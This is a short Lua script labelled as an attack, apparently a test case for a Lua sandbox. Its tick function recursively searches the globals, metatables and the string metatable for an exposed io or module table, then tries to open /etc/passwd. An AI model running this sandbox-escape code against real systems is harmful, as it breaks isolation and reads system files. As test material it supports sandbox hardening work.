-- Attack: Walks every reachable table and metatable looking for the registry's _LOADED or an io table.
function tick(ctx)
  local seen, found = {}, nil
  local function walk(v, depth)
    if type(v) ~= 'table' or seen[v] or depth > 10 then return end
    seen[v] = true
    if rawget(v, '_LOADED') or rawget(v, 'io') or rawget(v, 'open') then found = v end
    for k, x in next, v do walk(k, depth + 1); walk(x, depth + 1) end
    local mt = getmetatable(v)
    if type(mt) == 'table' then walk(mt, depth + 1) end
  end
  walk(_G, 0)
  walk(getmetatable(''), 0)
  return found.io.open('/etc/passwd')
end
